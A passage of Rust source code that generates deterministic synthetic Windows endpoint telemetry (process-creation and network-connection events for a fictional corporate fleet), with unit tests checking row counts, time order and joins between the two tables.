    "api.contoso.com", "downloads.contoso.com", "fonts.gstatic.com", "www.bing.com",
    "graph.microsoft.com", "onedrive.live.com", "cdn.jsdelivr.net", "objects.githubusercontent.com",
    "wdcp.microsoft.com",
];
const TLDS: [&str; 6] = ["com", "net", "io", "org", "cloud", "de"];
/// First octets of the public addresses (none private).
const PUBLIC_OCTETS: [u64; 14] = [
    13, 20, 23, 34, 35, 40, 52, 104, 140, 142, 151, 157, 185, 199,
];
/// Ports of connections to the fleet's own servers.
const INTERNAL_PORTS: [i32; 6] = [445, 135, 389, 88, 5985, 3389];

/// An executable of the fleet.
struct Exe {
    name: String,
    /// The folder, with `{user}` for per-user installs.
    dir: String,
    sha1: String,
    sha256: String,
    md5: String,
    size: i64,
    company: String,
    product: String,
    version: String,
    description: String,
    kind: Kind,
    commands: &'static [&'static str],
}

struct Account {
    domain: &'static str,
    name: String,
    sid: String,
    upn: Option<String>,
    object_id: Option<String>,
}

/// Accounts 0 to 2 are SYSTEM, LOCAL SERVICE and NETWORK SERVICE; users follow.
const SYSTEM: usize = 0;
const LOCAL_SERVICE: usize = 1;
const NETWORK_SERVICE: usize = 2;
const FIRST_USER: usize = 3;

/// Integrity levels; the token elevation follows from it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Integrity {
    System,
    High,
    Medium,
}

impl Integrity {
    fn level(self) -> &'static str {
        match self {
            Integrity::System => "System",
            Integrity::High => "High",
            Integrity::Medium => "Medium",
        }
    }

    fn elevation(self) -> &'static str {
        match self {
            Integrity::System => "TokenElevationTypeDefault",
            Integrity::High => "TokenElevationTypeFull",
            Integrity::Medium => "TokenElevationTypeLimited",
        }
    }
}

/// One process: what a process row describes, and what the rows of its children and
/// connections repeat about it. Its command line is regenerated from `command_seed`, so
/// thousands of them can be kept for the network events without their text.
#[derive(Debug, Clone)]
struct Proc {
    device: u32,
    exe: u32,
    account: u32,
    integrity: Integrity,
    session: i64,
    pid: i64,
    created: i64,
    command_seed: u64,
    /// A fixed command line (the long-lived processes), instead of one from `command_seed`.
    command: Option<&'static str>,
    parent_exe: u32,
    parent_pid: i64,
    parent_created: i64,
}

/// The long-lived processes every device has: executable, command line, parent executable,
/// and who runs it (`None`: the device's user).
#[rustfmt::skip]
const SLOTS: [(&str, &str, &str, Option<usize>); 7] = [
    ("explorer.exe", "C:\\Windows\\Explorer.EXE", "userinit.exe", None),
    ("services.exe", "C:\\Windows\\system32\\services.exe", "wininit.exe", Some(SYSTEM)),
    ("svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "services.exe", Some(SYSTEM)),
    ("svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "services.exe", Some(SYSTEM)),
    ("WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "svchost.exe", Some(NETWORK_SERVICE)),
    ("chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", "explorer.exe", None),
    ("msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window --win-session-start", "explorer.exe", None),
];
const EXPLORER: usize = 0;
const SERVICES_SLOT: usize = 1;
const DCOM: usize = 2;
const SCHEDULE: usize = 3;
const WMI: usize = 4;

struct Device {
    id: String,
    name: String,
    ip: String,
    user: usize,
    user_logon: i64,
    /// The long-lived processes, one per slot of [`SLOTS`].
    slots: Vec<Proc>,
    /// The most recent shell (cmd, PowerShell) started on the device.
    last_shell: Option<Proc>,
    report_id: i64,
}

/// Where a connection goes.
struct Endpoint {
    ip: String,
    url: String,
}

/// The fleet: devices, executables, accounts and endpoints.
struct Fleet {
    devices: Vec<Device>,
    device_weights: Zipf,
    exes: Vec<Exe>,
    exe_weights: Zipf,
    accounts: Vec<Account>,
    /// Extra executable names that only appear as grandparents (`userinit.exe`, `wininit.exe`).
    names: Vec<String>,
    endpoints: Vec<Endpoint>,
    endpoint_weights: Zipf,
}

impl Fleet {
    fn new(seed: u64, start: i64) -> Fleet {
        let mut rng = Rng(seed);
        let mut exes: Vec<Exe> = KNOWN
            .iter()
            .map(|k| Exe {
                name: k.name.to_string(),
                dir: k.dir.to_string(),
                sha1: String::new(),
                sha256: String::new(),
                md5: String::new(),
                size: 0,
                company: k.company.to_string(),
                product: k.product.to_string(),
                version: String::new(),
                description: k.description.to_string(),
                kind: k.kind,
                commands: k.commands,
            })
            .collect();
        'synthetic: for product in PRODUCTS {
            for vendor in VENDORS {
                if exes.len() == EXECUTABLES {
                    break 'synthetic;
                }
                let kind = match product {
                    "Agent" | "Service" | "Monitor" | "Collector" | "Broker" | "Host" => {
                        Kind::Service
                    }
                    "Updater" | "Setup" | "Backup" | "Scanner" => Kind::Task,
                    _ => Kind::App,
                };
                exes.push(Exe {
                    name: format!("{vendor}{product}.exe"),
                    dir: format!("C:\\Program Files\\{vendor}\\{product}"),
                    sha1: String::new(),
                    sha256: String::new(),
                    md5: String::new(),
                    size: 0,
                    company: format!("{vendor} Ltd."),
                    product: format!("{vendor} {product}"),
                    version: String::new(),
                    description: format!("{vendor} {product}"),
                    kind,
                    commands: match kind {
                        Kind::Service => SERVICE_COMMANDS,
                        Kind::Task => TASK_COMMANDS,
                        _ => APP_COMMANDS,
                    },
                });
            }
        }
        for exe in &mut exes {
            exe.sha1 = rng.hex_string(40);
            exe.sha256 = rng.hex_string(64);
            exe.md5 = rng.hex_string(32);
            exe.size = 20_000 + rng.below(40_000_000) as i64;
            exe.version = format!(
                "{}.{}.{}.{}",
                1 + rng.below(20),
                rng.below(10),
                rng.below(30_000),
                rng.below(5000)
            );
        }

        let mut accounts = vec![
            Account {
                domain: "nt authority",
                name: "system".into(),
                sid: "S-1-5-18".into(),
                upn: None,
                object_id: None,
            },
            Account {
                domain: "nt authority",
                name: "local service".into(),
                sid: "S-1-5-19".into(),
                upn: None,
                object_id: None,
            },
            Account {
                domain: "nt authority",
                name: "network service".into(),
                sid: "S-1-5-20".into(),
                upn: None,
                object_id: None,
            },
        ];
        for i in 0..USERS {
            let name = format!(
                "{}.{}",
                FIRST_NAMES[i % FIRST_NAMES.len()],
                LAST_NAMES[i / FIRST_NAMES.len() % LAST_NAMES.len()]
            );
            let mut object_id = String::with_capacity(36);
            rng.guid(&mut object_id);
            accounts.push(Account {
                domain: "corp",
                upn: Some(format!("{name}@corp.example.com")),
                name,
                sid: format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1100 + i),
                object_id: Some(object_id),
            });
        }

        let slot_exe = |name: &str| exes.iter().position(|e| e.name == name).unwrap_or(0) as u32;
        let names = vec!["userinit.exe".to_string(), "wininit.exe".to_string()];
        let name_index = |name: &str| -> u32 {
            match names.iter().position(|n| n == name) {
                Some(i) => (exes.len() + i) as u32,
                None => slot_exe(name),
            }
        };
        let devices = (0..DEVICES)
            .map(|i| {
                let name = if i < SERVERS {
                    format!("srv-{i:03}.corp.example.com")
                } else {
                    format!("wks-{i:04}.corp.example.com")
                };
                // Booted within the week before the data starts.
                let boot = start - rng.below(7 * MICROS_PER_DAY as u64) as i64;
                let user = FIRST_USER + i;
                let mut slots: Vec<Proc> = Vec::with_capacity(SLOTS.len());
                for (slot, (exe, command, parent, who)) in SLOTS.iter().enumerate() {
                    let account = who.unwrap_or(user);
                    // Parents of slots are slots too where they exist (services → svchost).
                    let (parent_pid, parent_created) = match *parent {
                        "services.exe" => (slots[SERVICES_SLOT].pid, slots[SERVICES_SLOT].created),
                        "svchost.exe" => (slots[DCOM].pid, slots[DCOM].created),
                        "explorer.exe" => (slots[EXPLORER].pid, slots[EXPLORER].created),
                        _ => (4 * (1 + rng.below(200)) as i64, boot),
                    };
                    slots.push(Proc {
                        device: i as u32,
                        exe: slot_exe(exe),
                        account: account as u32,
                        integrity: if account < FIRST_USER {
                            Integrity::System
                        } else {
                            Integrity::Medium
                        },
                        session: i64::from(account >= FIRST_USER),
                        pid: 4 * (1 + rng.below(32_767)) as i64,
                        created: boot
                            + (slot as i64 + 1) * 1_000_000
                            + rng.below(60_000_000) as i64,
                        command_seed: 0,
                        command: Some(command),
                        parent_exe: name_index(parent),
                        parent_pid,
                        parent_created,
                    });
                }
                Device {
                    id: rng.hex_string(40),
                    name,
                    ip: format!(
                        "10.{}.{}.{}",
                        10 + i / 250,
                        1 + (i / 50) % 5 * 16,
                        10 + i % 50
                    ),
                    user,
                    user_logon: 0x10_0000 + rng.below(0xF0_0000) as i64,
                    slots,
                    last_shell: None,
                    report_id: rng.below(1_000_000) as i64,
                }
            })
            .collect();

        let mut domains: Vec<String> = DOMAINS_KNOWN.iter().map(|d| d.to_string()).collect();
        while domains.len() < DOMAINS {
            let i = domains.len();
            domains.push(format!(
                "{}{}.{}",
                ["cdn", "api", "static", "telemetry", "edge", "app"][i % 6],
                rng.below(1000),
                TLDS[rng.below(TLDS.len() as u64) as usize]
            ));
        }
        let domain_weights = Zipf::new(DOMAINS, 1.0);
        let endpoints = (0..ENDPOINTS)
            .map(|i| {
                // Every domain gets addresses; popular ones more (CDNs).
                let domain = if i < DOMAINS {
                    i
                } else {
                    domain_weights.pick(&mut rng)
                };
                Endpoint {
                    ip: format!(
                        "{}.{}.{}.{}",
                        PUBLIC_OCTETS[rng.below(PUBLIC_OCTETS.len() as u64) as usize],
                        rng.below(256),
                        rng.below(256),
                        1 + rng.below(254)
                    ),
                    url: domains[domain].clone(),
                }
            })
            .collect();

        Fleet {
            devices,
            device_weights: Zipf::new(DEVICES, 0.6),
            exes,
            exe_weights: Zipf::new(EXECUTABLES, 1.1),
            accounts,
            names,
            endpoints,
            endpoint_weights: Zipf::new(ENDPOINTS, 1.0),
        }
    }

    fn exe_name(&self, exe: u32) -> &str {
        let exe = exe as usize;
        match self.exes.get(exe) {
            Some(e) => &e.name,
            None => self
                .names
                .get(exe - self.exes.len())
                .map_or("", String::as_str),
        }
    }

    /// The user whose profile a process's paths name: its own account, or for the system
    /// accounts (which have no profile of their own there) the device's user.
    fn profile_user(&self, p: &Proc) -> &str {
        let account = match p.account as usize {
            a if a >= FIRST_USER => a,
            _ => self.devices[p.device as usize].user,
        };
        &self.accounts[account].name
    }

    /// The executable's full path, with a user in per-user folders.
    fn folder_path(&self, p: &Proc, out: &mut String) {
        let exe = &self.exes[p.exe as usize];
        out.clear();
        expand_user(&exe.dir, self.profile_user(p), out);
        out.push('\\');
        out.push_str(&exe.name);
    }

    /// The process's command line.
    fn command_line(&self, p: &Proc, out: &mut String) {
        out.clear();
        if let Some(command) = p.command {
            out.push_str(command);
            return;
        }
        let exe = &self.exes[p.exe as usize];
        let mut rng = Rng(p.command_seed);
        let template = exe.commands[rng.skewed(exe.commands.len() as u64) as usize];
        let user = self.profile_user(p);
        let mut rest = template;
        while let Some(open) = rest.find('{') {
            out.push_str(&rest[..open]);
            let Some(close) = rest[open..].find('}') else {
                break;
            };
            let key = &rest[open + 1..open + close];
            rest = &rest[open + close + 1..];
            match key {
                "path" => {
                    expand_user(&exe.dir, user, out);
                    out.push('\\');
                    out.push_str(&exe.name);
                }
                "user" => out.push_str(user),
                "svc" => out.push_str(SERVICES[rng.skewed(SERVICES.len() as u64) as usize]),
                "host" => {
                    let server = rng.below(SERVERS as u64) as usize;
                    out.push_str(&self.devices[server].name);
                }
                "n" => {
                    let _ = write!(out, "{}", rng.below(100_000));
                }
                "k" => {
                    let _ = write!(out, "{}", rng.below(50));
                }
                "hex" => rng.hex(8, out),
                "guid" => rng.guid(out),
                "guidb" => {
                    out.push('{');
                    let from = out.len();
                    rng.guid(out);
                    out[from..].make_ascii_uppercase();
                    out.push('}');
                }
                // Not a placeholder: keep the text as it is.
                other => {
                    out.push('{');
                    out.push_str(other);
                    out.push('}');
                }
            }
        }
        out.push_str(rest);
    }

    fn logon_id(&self, p: &Proc) -> i64 {
        match p.account as usize {
            SYSTEM => 0x3e7,
            LOCAL_SERVICE => 0x3e5,
            NETWORK_SERVICE => 0x3e4,
            account => {
                let device = &self.devices[p.device as usize];
                if account == device.user {
                    device.user_logon
                } else {
                    // Another session on the device: stable per account and device.
                    let mut rng = Rng((u64::from(p.device) << 32) | account as u64);
                    0x10_0000 + rng.below(0xF0_0000) as i64
                }
            }
        }
    }
}

/// `dir` with `{user}` replaced by `user`, appended to `out`.
fn expand_user(dir: &str, user: &str, out: &mut String) {
    match dir.split_once("{user}") {
        Some((before, after)) => {
            out.push_str(before);
            out.push_str(user);
            out.push_str(after);
        }
        None => out.push_str(dir),
    }
}

/// Sets a string column of a reused row without allocating once the row has held a value.
fn put(field: &mut Option<String>, value: &str) {
    match field {
        Some(s) => {
            s.clear();
            s.push_str(value);
        }
        None => *field = Some(value.to_owned()),
    }
}

fn put_opt(field: &mut Option<String>, value: Option<&str>) {
    match value {
        Some(v) => put(field, v),
        None => *field = None,
    }
}

/// Fills the `InitiatingProcess*` columns that `DeviceProcessEvents` and `DeviceNetworkEvents`
/// share, from process `$p` (command line in `$command`, folder path in `$folder`).
macro_rules! set_initiating {
    ($row:expr, $fleet:expr, $p:expr, $command:expr, $folder:expr) => {{
        let (row, fleet, p) = (&mut $row, $fleet, $p);
        let exe = &fleet.exes[p.exe as usize];
        let account = &fleet.accounts[p.account as usize];
        put(&mut row.initiating_process_sha1, &exe.sha1);
        put(&mut row.initiating_process_sha256, &exe.sha256);
        put(&mut row.initiating_process_md5, &exe.md5);
        put(&mut row.initiating_process_file_name, &exe.name);
        row.initiating_process_file_size = Some(exe.size);
        put(
            &mut row.initiating_process_version_info_company_name,
            &exe.company,
        );
        put(
            &mut row.initiating_process_version_info_product_name,
            &exe.product,
        );
        put(
            &mut row.initiating_process_version_info_product_version,
            &exe.version,
        );
        put(
            &mut row.initiating_process_version_info_internal_file_name,
            &exe.name,
        );
        put(
            &mut row.initiating_process_version_info_original_file_name,
            &exe.name,
        );
        put(
            &mut row.initiating_process_version_info_file_description,
            &exe.description,
        );
        row.initiating_process_id = Some(p.pid);
        put(&mut row.initiating_process_command_line, $command);
        row.initiating_process_creation_time = DateTime::from_timestamp_micros(p.created);
        put(&mut row.initiating_process_folder_path, $folder);
        put(
            &mut row.initiating_process_parent_file_name,
            fleet.exe_name(p.parent_exe),
        );
        row.initiating_process_parent_id = Some(p.parent_pid);
        row.initiating_process_parent_creation_time =
            DateTime::from_timestamp_micros(p.parent_created);
        put(&mut row.initiating_process_account_domain, account.domain);
        put(&mut row.initiating_process_account_name, &account.name);
        put(&mut row.initiating_process_account_sid, &account.sid);
        put_opt(
            &mut row.initiating_process_account_upn,
            account.upn.as_deref(),
        );
        put_opt(
            &mut row.initiating_process_account_object_id,
            account.object_id.as_deref(),
        );
        put(
            &mut row.initiating_process_integrity_level,
            p.integrity.level(),
        );
        put(
            &mut row.initiating_process_token_elevation,
            p.integrity.elevation(),
        );
        row.initiating_process_session_id = Some(p.session);
        row.is_initiating_process_remote_session = Some(false);
    }};
}

/// `DeviceProcessEvents` batches, in time order; afterwards [`ProcessEvents::network_events`]
/// gives the connections of those processes.
pub struct ProcessEvents {
    fleet: Fleet,
    rng: Rng,
    total: usize,
    emitted: usize,
    batch_rows: usize,
    start: i64,
    span: i64,
    /// The processes that connect, kept for the network events.
    connecting: Vec<Proc>,
    row: DeviceProcessEvents,
    builder: DeviceProcessEventsBuilder,
    command: String,
    folder: String,
    parent_command: String,
    parent_folder: String,
}

impl ProcessEvents {
    pub fn new(config: &FleetConfig) -> ProcessEvents {
        let start = config.start.timestamp_micros();
        let row = DeviceProcessEvents {
            action_type: Some("ProcessCreated".into()),
            is_process_remote_session: Some(false),
            ..DeviceProcessEvents::default()
        };
        ProcessEvents {
            fleet: Fleet::new(config.seed, start),
            // Another stream than the fleet's, so the rows do not depend on how it was drawn.
            rng: Rng(config.seed ^ 0x05EE_D0FF_1EE7),
            total: config.processes,
            emitted: 0,
            batch_rows: config.batch_rows.max(1),
            start,
            span: i64::from(config.days.max(1)) * MICROS_PER_DAY,
            connecting: Vec::new(),
            row,
            builder: DeviceProcessEventsBuilder::default(),
            command: String::new(),
            folder: String::new(),
            parent_command: String::new(),
            parent_folder: String::new(),
        }
    }

    /// The connections of the processes generated so far (call after the last batch).
    pub fn network_events(self) -> NetworkEvents {
        NetworkEvents {
            rng: Rng(self.rng.0 ^ 0xC0_22EC7),
            procs: self.connecting.into_iter(),
            fleet: self.fleet,
            batch_rows: self.batch_rows,
            row: DeviceNetworkEvents::default(),
            builder: DeviceNetworkEventsBuilder::default(),
            command: String::new(),
            folder: String::new(),
        }
    }

    /// Draws the next process: its device, executable, parent, account and times.
    fn next_proc(&mut self) -> (Proc, Proc) {
        let rng = &mut self.rng;
        let fleet = &self.fleet;
        let i = self.emitted as i64;
        let n = self.total.max(1) as i64;
        // Row i has its own slice of the span, so rows come in time order.
        let slot = self.span / n;
        let created = self.start
            + (i128::from(i) * i128::from(self.span) / i128::from(n)) as i64
            + rng.below(slot.max(1) as u64) as i64;
        let device_index = fleet.device_weights.pick(rng);
        let exe_index = fleet.exe_weights.pick(rng);
        let exe = &fleet.exes[exe_index];
        let device = &fleet.devices[device_index];
        let recent_shell = || device.last_shell.clone();
        let slot_proc = |s: usize| device.slots[s].clone();
        let parent = match exe.kind {
            Kind::Service => slot_proc(SERVICES_SLOT),
            Kind::Console => recent_shell().unwrap_or_else(|| slot_proc(EXPLORER)),
            Kind::Com => slot_proc(if rng.chance(850) { DCOM } else { WMI }),
            Kind::Browser(s) => slot_proc(s),
            Kind::Shell | Kind::PowerShell => match rng.below(20) {
                0..10 => slot_proc(EXPLORER),
                10..15 => slot_proc(SCHEDULE),
                15..18 => recent_shell().unwrap_or_else(|| slot_proc(EXPLORER)),
                _ => slot_proc(WMI),
            },
            Kind::Task => slot_proc(SCHEDULE),
            Kind::App => slot_proc(EXPLORER),
            Kind::Dev => match rng.chance(600) {
                true => recent_shell().unwrap_or_else(|| slot_proc(EXPLORER)),
                false => slot_proc(EXPLORER),
            },
            Kind::Tool => match rng.chance(800) {
                true => recent_shell().unwrap_or_else(|| slot_proc(SCHEDULE)),
                false => slot_proc(SCHEDULE),
            },
            Kind::Rundll => slot_proc(if rng.chance(500) { EXPLORER } else { DCOM }),
        };
        // Who runs it follows from the parent, with the exceptions Windows has.
        let parent_is_system = (parent.account as usize) < FIRST_USER;
        let mut account = parent.account as usize;
        let mut integrity = parent.integrity;
        match exe.kind {
            Kind::Service => {
                account = match rng.below(20) {
                    0..14 => SYSTEM,
                    14..17 => LOCAL_SERVICE,
                    _ => NETWORK_SERVICE,
                };
                integrity = Integrity::System;
            }
            Kind::Task | Kind::Com if parent_is_system && rng.chance(400) => {
                account = device.user;
                integrity = Integrity::Medium;
            }
            _ if !parent_is_system => {
                // Admins on remote sessions, now and then; elevated processes sometimes.
                if rng.chance(30) {
                    account = FIRST_USER + DEVICES + rng.skewed((USERS - DEVICES) as u64) as usize;
                }
                if integrity == Integrity::Medium && rng.chance(80) {
                    integrity = Integrity::High;
                }
            }
            _ => {}
        }
        if account < FIRST_USER {
            integrity = Integrity::System;
        }
        let proc = Proc {
            device: device_index as u32,
            exe: exe_index as u32,
            account: account as u32,
            integrity,
            session: if account < FIRST_USER {
                0
            } else {
                1 + i64::from(account != device.user)
            },
            pid: 4 * (1 + rng.below(32_767)) as i64,
            created,
            command_seed: rng.next_u64(),
            command: None,
            parent_exe: parent.exe,
            parent_pid: parent.pid,
            parent_created: parent.created,
        };
        (proc, parent)
    }

    fn append_row(&mut self) {
        let (p, parent) = self.next_proc();
        let fleet = &self.fleet;
        fleet.command_line(&p, &mut self.command);
        fleet.folder_path(&p, &mut self.folder);
        fleet.command_line(&parent, &mut self.parent_command);
        fleet.folder_path(&parent, &mut self.parent_folder);
        let device = &fleet.devices[p.device as usize];
        let exe = &fleet.exes[p.exe as usize];
        let account = &fleet.accounts[p.account as usize];
        let row = &mut self.row;
        row.timestamp = DateTime::from_timestamp_micros(p.created);
        put(&mut row.device_id, &device.id);
        put(&mut row.device_name, &device.name);
        put(&mut row.file_name, &exe.name);
        put(&mut row.folder_path, &self.folder);
        put(&mut row.sha1, &exe.sha1);
        put(&mut row.sha256, &exe.sha256);
        put(&mut row.md5, &exe.md5);
        row.file_size = Some(exe.size);
        put(&mut row.process_version_info_company_name, &exe.company);
        put(&mut row.process_version_info_product_name, &exe.product);
        put(&mut row.process_version_info_product_version, &exe.version);
        put(&mut row.process_version_info_internal_file_name, &exe.name);
        put(&mut row.process_version_info_original_file_name, &exe.name);
        put(
            &mut row.process_version_info_file_description,
            &exe.description,
        );
        row.process_id = Some(p.pid);
        put(&mut row.process_command_line, &self.command);
        put(&mut row.process_integrity_level, p.integrity.level());
        put(&mut row.process_token_elevation, p.integrity.elevation());
        row.process_creation_time = row.timestamp;
        put(&mut row.account_domain, account.domain);
        put(&mut row.account_name, &account.name);
        put(&mut row.account_sid, &account.sid);
        put_opt(&mut row.account_upn, account.upn.as_deref());
        put_opt(&mut row.account_object_id, account.object_id.as_deref());
        row.logon_id = Some(fleet.logon_id(&p));
        row.created_process_session_id = Some(p.session);
        set_initiating!(
            *row,
            fleet,
            &parent,
            &self.parent_command,
            &self.parent_folder
        );
        row.initiating_process_logon_id = Some(fleet.logon_id(&parent));

        let device = &mut self.fleet.devices[p.device as usize];
        device.report_id += 1;
        self.row.report_id = Some(device.report_id);
        self.builder.append(&self.row);
        let kind = self.fleet.exes[p.exe as usize].kind;
        if matches!(kind, Kind::Shell | Kind::PowerShell) {
            device.last_shell = Some(p.clone());
        }
        if self.rng.chance(kind.connect_per_mille()) {
            self.connecting.push(p);
        }
        self.emitted += 1;
    }
}

impl Iterator for ProcessEvents {
    type Item = RecordBatch;

    fn next(&mut self) -> Option<RecordBatch> {
        if self.emitted >= self.total {
            return None;
        }
        let end = self.total.min(self.emitted + self.batch_rows);
        while self.emitted < end {
            self.append_row();
        }
        Some(self.builder.finish())
    }
}

/// `DeviceNetworkEvents` batches: one to four connections per connecting process, within two
/// minutes of its start (so nearly, not exactly, in time order).
pub struct NetworkEvents {
    fleet: Fleet,
    rng: Rng,
    procs: std::vec::IntoIter<Proc>,
    batch_rows: usize,
    row: DeviceNetworkEvents,
    builder: DeviceNetworkEventsBuilder,
    command: String,
    folder: String,
}

impl NetworkEvents {
    fn append_connections(&mut self, p: &Proc) {
        let fleet = &self.fleet;
        fleet.command_line(p, &mut self.command);
        fleet.folder_path(p, &mut self.folder);
        let kind = fleet.exes[p.exe as usize].kind;
        let connections = 1 + self.rng.skewed(4);
        for _ in 0..connections {
            let rng = &mut self.rng;
            let fleet = &self.fleet;
            let device = &fleet.devices[p.device as usize];
            let internal = match kind {
                Kind::Service | Kind::Com => rng.chance(400),
                Kind::Tool | Kind::Shell | Kind::Rundll => rng.chance(800),
                Kind::PowerShell => rng.chance(500),
                _ => rng.chance(20),
            };
            let row = &mut self.row;
            row.timestamp = DateTime::from_timestamp_micros(
                p.created + 1000 + rng.below(CONNECT_WINDOW_US) as i64,
            );
            put(&mut row.device_id, &device.id);
            put(&mut row.device_name, &device.name);
            put(
                &mut row.action_type,
                match rng.below(100) {
                    0..90 => "ConnectionSuccess",
                    90..96 => "ConnectionFailed",
                    _ => "ConnectionAttempt",
                },
            );
            if internal {
                let server = &fleet.devices[rng.skewed(SERVERS as u64) as usize];
                put(&mut row.remote_ip, &server.ip);
                row.remote_port =
                    Some(INTERNAL_PORTS[rng.skewed(INTERNAL_PORTS.len() as u64) as usize]);
                row.remote_url = None;
                put(&mut row.remote_ip_type, "Private");
            } else {
                let endpoint = &fleet.endpoints[fleet.endpoint_weights.pick(rng)];
                put(&mut row.remote_ip, &endpoint.ip);
                row.remote_port = Some(if rng.chance(950) { 443 } else { 80 });
                put(&mut row.remote_url, &endpoint.url);
                put(&mut row.remote_ip_type, "Public");
            }
            put(&mut row.local_ip, &device.ip);
            row.local_port = Some(49_152 + rng.below(16_384) as i32);
            put(&mut row.protocol, "Tcp");
            put(&mut row.local_ip_type, "Private");
            set_initiating!(*row, fleet, p, &self.command, &self.folder);
            let device = &mut self.fleet.devices[p.device as usize];
            device.report_id += 1;
            self.row.report_id = Some(device.report_id);
            self.builder.append(&self.row);
        }
    }
}

impl Iterator for NetworkEvents {
    type Item = RecordBatch;

    fn next(&mut self) -> Option<RecordBatch> {
        while self.builder.len() < self.batch_rows {
            let Some(p) = self.procs.next() else { break };
            self.append_connections(&p);
        }
        (!self.builder.is_empty()).then(|| self.builder.finish())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rampart_schema::arrow_array::cast::AsArray;
    use rampart_schema::arrow_array::types::Int64Type;
    use std::collections::HashSet;

    fn small() -> FleetConfig {
        FleetConfig {
            processes: 50_000,
            ..FleetConfig::default()
        }
    }

    #[test]
    fn the_fleet_has_its_stated_shape() {
        let fleet = Fleet::new(1, 0);
        assert_eq!(fleet.exes.len(), EXECUTABLES);
        assert_eq!(fleet.accounts.len(), FIRST_USER + USERS);
        let names: HashSet<&str> = fleet.accounts.iter().map(|a| a.name.as_str()).collect();
        assert_eq!(
            names.len(),
            fleet.accounts.len(),
            "account names are unique"
        );
        let exes: HashSet<&str> = fleet.exes.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(exes.len(), EXECUTABLES, "executable names are unique");
        for (exe, ..) in SLOTS {
            assert!(
                exes.contains(exe),
                "{exe} of the long-lived processes is an executable"
            );
        }
        for device in &fleet.devices {
            assert_eq!(fleet.exe_name(device.slots[0].parent_exe), "userinit.exe");
            assert_eq!(
                fleet.exe_name(device.slots[DCOM].parent_exe),
                "services.exe"
            );
        }
    }

    #[test]
    fn rows_are_deterministic_in_time_order_and_joinable() {
        let config = small();
        let mut a = ProcessEvents::new(&config);
        let batches: Vec<RecordBatch> = a.by_ref().collect();
        let again: Vec<RecordBatch> = ProcessEvents::new(&config).collect();
        assert_eq!(batches, again, "the same seed gives the same rows");
        assert_eq!(
            batches.iter().map(RecordBatch::num_rows).sum::<usize>(),
            50_000
        );
        assert_eq!(batches[0].num_rows(), config.batch_rows);

        let mut keys = HashSet::new();
        let mut last = i64::MIN;
        let mut devices = HashSet::new();
        let mut files = HashSet::new();
        for b in &batches {
            let ts = b.column_by_name("Timestamp").map(|c| {
                c.as_primitive::<rampart_schema::arrow_array::types::TimestampMicrosecondType>()
                    .values()
                    .to_vec()
            });
            for t in ts.unwrap_or_default() {
                assert!(t >= last, "process events come in time order");
                last = t;
            }
            let ids = b
                .column_by_name("DeviceId")
                .map(|c| c.as_string::<i32>().clone());
            let pids = b
                .column_by_name("ProcessId")
                .map(|c| c.as_primitive::<Int64Type>().clone());
            let names = b
                .column_by_name("FileName")
                .map(|c| c.as_string::<i32>().clone());
            if let (Some(ids), Some(pids), Some(names)) = (ids, pids, names) {
                for i in 0..b.num_rows() {
                    keys.insert((ids.value(i).to_string(), pids.value(i)));
                    devices.insert(ids.value(i).to_string());
                    files.insert(names.value(i).to_string());
                }
            }
        }
        assert!(
            devices.len() > 900,
            "most devices are active: {}",
            devices.len()
        );
        assert!(files.len() > 250, "most executables run: {}", files.len());

        let network: Vec<RecordBatch> = a.network_events().collect();
        let connections: usize = network.iter().map(RecordBatch::num_rows).sum();
        // About one process in five connects, 1.9 times on average.
        assert!(
            (5_000..=30_000).contains(&connections),
            "{connections} connections for 50,000 processes"
        );
        for b in &network {
            let ids = b
                .column_by_name("DeviceId")
                .map(|c| c.as_string::<i32>().clone());
            let pids = b
                .column_by_name("InitiatingProcessId")
                .map(|c| c.as_primitive::<Int64Type>().clone());
            if let (Some(ids), Some(pids)) = (ids, pids) {
                for i in 0..b.num_rows() {
                    assert!(
                        keys.contains(&(ids.value(i).to_string(), pids.value(i))),
                        "every connection joins its process"
                    );
                }
            }
        }
    }
}
